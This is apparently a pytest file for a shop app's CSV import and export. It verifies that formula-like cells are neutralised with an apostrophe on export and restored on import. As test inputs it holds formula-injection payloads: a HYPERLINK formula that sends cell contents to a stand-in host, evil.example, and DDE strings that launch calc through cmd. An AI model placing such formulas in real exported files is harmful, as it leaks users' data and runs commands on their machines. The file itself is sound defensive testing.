"""CSV formula injection: every CSV the app writes makes formula-like cells inert, and import undoes it exactly."""

from __future__ import annotations

import csv

import pytest

from shopline.csvio.exporter import export_csv
from shopline.csvio.formulas import neutralise, restore
from shopline.csvio.importer import import_csv
from shopline.store.models import Field, FieldValue, Friend

EVIL = '=HYPERLINK("http://evil.example/?leak="&A3&B3,"Click for coupon")'


def uid(n: int) -> str:
    return f"U{n:032x}"


def read_rows(path, encoding="utf-8-sig"):
    with open(path, encoding=encoding, newline="") as f:
        return list(csv.reader(f))


@pytest.mark.parametrize(("cell", "written"), [
    (EVIL, "'" + EVIL), ("@SUM(A1)", "'@SUM(A1)"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("-", "'-"), ("-e5", "'-e5"),
    ("'=1+1", "''=1+1"),  # a cell that already starts with the apostrophe keeps it after a round trip
    ("-5", "-5"), ("+81", "+81"), ("-1,200.5", "-1,200.5"), ("1e5", "1e5"),  # plain numbers stay numbers
    ("O'Brien", "O'Brien"), ("'quoted'", "'quoted'"), ("", ""), ("さくら", "さくら"),
])
def test_neutralise_and_restore(cell, written):
    assert neutralise(cell) == written
    assert restore(written) == cell


def test_export_makes_formulas_inert_and_import_restores_them(store, tmp_path):
    friend = Friend.create(user_id=uid(1), display_name=EVIL, memo="@SUM(1+1)*cmd|' /C calc'!A0")
    Friend.create(user_id=uid(2), display_name="\t=cmd", memo="'=already quoted")
    field = Field.create(name="=1+2", kind="text", position=1)
    points = Field.create(name="ポイント", kind="number", position=2)
    FieldValue.create(friend=friend, field=field, text_value="=cmd|' /C calc'!A0")
    FieldValue.create(friend=friend, field=points, text_value="-5", num_value=-5)
    export_csv(tmp_path / "out.csv")
    rows = read_rows(tmp_path / "out.csv")
    assert rows[0][-2:] == ["'=1+2", "ポイント"]
    assert rows[1][1] == "'" + EVIL and rows[1][8] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[1][-2:] == ["'=cmd|' /C calc'!A0", "-5"]
    assert rows[2][1] == "'\t=cmd" and rows[2][8] == "''=already quoted"
    assert all(not cell or cell[0] not in "=+-@\t\r" or cell in ("-5",) for row in rows for cell in row)
    before = sorted(Friend.select(Friend.user_id, Friend.display_name, Friend.memo).tuples())
    values = sorted(FieldValue.select(Field.name, FieldValue.text_value).join(Field).tuples())
    Friend.delete().execute()
    Field.delete().execute()
    assert import_csv(tmp_path / "out.csv").exit_code == 0
    assert sorted(Friend.select(Friend.user_id, Friend.display_name, Friend.memo).tuples()) == before
    assert sorted(FieldValue.select(Field.name, FieldValue.text_value).join(Field).tuples()) == values


def test_errors_csv_makes_formulas_inert(store, tmp_path):
    path = tmp_path / "bad.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows([["ユーザーID", "表示名", "性別"], [uid(1), EVIL, "猫"]])
    report = import_csv(path)
    rows = read_rows(report.errors_path)
    assert "'" + EVIL in rows[1]
    assert not any(cell.startswith("=") for row in rows for cell in row)
